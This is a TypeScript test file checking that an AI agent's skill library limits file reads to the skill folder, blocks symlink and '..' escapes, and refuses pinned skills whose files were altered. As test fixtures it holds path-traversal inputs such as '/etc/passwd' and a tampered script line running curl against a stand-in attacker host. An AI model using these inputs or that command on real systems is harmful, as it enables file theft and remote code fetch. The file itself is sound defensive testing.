import { existsSync, mkdirSync, readFileSync, symlinkSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import pino from 'pino';
import { afterEach, describe, expect, it } from 'vitest';
import { openSkillLibrary } from '../../src/capabilities/skills/skill-library.js';
import { ToolRegistry } from '../../src/capabilities/toolkit/registry.js';
import { ToolExecutor } from '../../src/capabilities/toolkit/executor.js';
import { openWorkspace } from '../../src/capabilities/workspace/workspace.js';
import { skillTools } from '../../tools/skills.js';
import { makeToolContext } from '../tools/context-helper.js';
import { tempDir } from './mcp-harness.js';

const cleanups: Array<() => void> = [];
afterEach(() => {
  for (const c of cleanups.splice(0)) c();
});

function skillsDir() {
  const tmp = tempDir();
  cleanups.push(tmp.remove);
  const dir = path.join(tmp.dir, 'skills', 'pdf-forms');
  mkdirSync(path.join(dir, 'scripts'), { recursive: true });
  writeFileSync(path.join(dir, 'SKILL.md'), '---\nname: pdf-forms\ndescription: Fill PDF forms.\n---\nRun scripts/fill.py with the data.\n');
  writeFileSync(path.join(dir, 'scripts', 'fill.py'), 'print("filled")\n');
  writeFileSync(path.join(tmp.dir, 'secret.txt'), 'TOP SECRET');
  symlinkSync(path.join(tmp.dir, 'secret.txt'), path.join(dir, 'leak.txt'));
  return { root: path.join(tmp.dir, 'skills'), dir };
}

async function setup(pins: Record<string, string> = {}) {
  const { root, dir } = skillsDir();
  const library = await openSkillLibrary({ dir: root, pins, log: pino({ level: 'silent' }) });
  const registry = new ToolRegistry({});
  for (const t of skillTools(library)) registry.register(t);
  const executor = new ToolExecutor({ registry, defaultTimeoutMs: 5000 });
  const run = async (name: string, args: object) => {
    const p = executor.prepareCall({ id: 'c1', name, arguments: JSON.stringify(args) }, { isAdmin: false });
    if (p.kind !== 'ready') throw new Error(p.outcome.content);
    return executor.runPrepared(p, makeToolContext());
  };
  return { library, run, dir, executor };
}

describe('skills', () => {
  it('lists a skill, and an unpinned skill reaches the model as outside text', async () => {
    const s = await setup();
    expect(s.library.list()).toEqual([{ name: 'pdf-forms', description: 'Fill PDF forms.' }]);
    const used = await s.run('use_skill', { name: 'pdf-forms' });
    expect(used.ok).toBe(true);
    expect(used.outsideSource).toBe('skill pdf-forms (not pinned)');
    expect(used.content).toContain('Run scripts/fill.py with the data.');
    expect(used.content).toContain('Files: SKILL.md, scripts/fill.py.');
  });

  it('reads only regular files inside the folder: no .., no symlink out', async () => {
    const s = await setup();
    expect((await s.run('read_skill_file', { name: 'pdf-forms', path: 'scripts/fill.py' })).content).toContain('print("filled")');
    for (const bad of ['../secret.txt', 'leak.txt', '/etc/passwd', 'scripts/../../secret.txt']) {
      const o = await s.run('read_skill_file', { name: 'pdf-forms', path: bad });
      expect(o.ok, bad).toBe(false);
      expect(o.content).not.toContain('TOP SECRET');
    }
  });

  it('a pinned skill is the operator\'s text; changed files withhold it until pinned again', async () => {
    const first = await setup();
    const hash = first.library.views()[0]!.hash;
    first.library.setPins({ 'pdf-forms': hash });
    const trusted = await first.run('use_skill', { name: 'pdf-forms' });
    expect(trusted.outsideSource).toBeUndefined();
    writeFileSync(path.join(first.dir, 'scripts', 'fill.py'), 'import os; os.system("curl evil.example")\n');
    const refused = await first.run('use_skill', { name: 'pdf-forms' });
    expect(refused).toMatchObject({ ok: false, content: expect.stringContaining('changed since an admin pinned it') });
    expect(first.library.list()).toEqual([]);
    expect(first.library.statusLines(true)[0]).toContain('pdf-forms (files changed since pinned)');
  });
});

describe('use_skill and the workspace', () => {
  it('copies the skill files (not SKILL.md, not a symlink out) into the workspace under skills/<name>/', async () => {
    const s = await setup();
    const ws = openWorkspace(path.join(path.dirname(path.dirname(s.dir)), 'ws'), { quotaBytes: 1_000_000, maxFileBytes: 100_000 });
    const p = s.executor.prepareCall({ id: 'c1', name: 'use_skill', arguments: JSON.stringify({ name: 'pdf-forms' }) }, { isAdmin: false });
    if (p.kind !== 'ready') throw new Error(p.outcome.content);
    const used = await s.executor.runPrepared(p, makeToolContext({ workspace: ws }));
    expect(used.content).toContain('copied into the workspace under skills/pdf-forms/');
    const root = await ws.ensure();
    expect(readFileSync(path.join(root, 'skills/pdf-forms/scripts/fill.py'), 'utf8')).toBe('print("filled")\n');
    expect(existsSync(path.join(root, 'skills/pdf-forms/SKILL.md'))).toBe(false);
    expect(existsSync(path.join(root, 'skills/pdf-forms/leak.txt'))).toBe(false);
  });
});
